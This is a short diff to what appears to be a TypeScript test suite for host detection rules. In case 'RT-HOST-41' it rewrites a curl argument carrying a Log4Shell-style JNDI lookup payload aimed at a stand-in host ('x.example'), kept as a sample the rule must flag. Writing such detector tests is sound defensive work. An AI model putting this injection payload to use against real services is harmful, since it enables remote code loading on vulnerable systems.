@@ -826,7 +826,7 @@ const CASES: Record<string, Case> = {
     benign: [exec(['./server', '-port', '8888'], { exe: '/opt/server' })],
   },
   'RT-HOST-41': {
-    fire: [web(710), exec(['curl', '${jndi:ldap://x.example/a}'], { ppid: 710 })],
+    fire: [web(710), exec(['curl', `$${'{'}jndi:ldap://x.example/a}`], { ppid: 710 })],
     benign: [web(711), exec(['curl', 'http://localhost/health'], { ppid: 711 })],
   },
   'RT-HOST-42': {
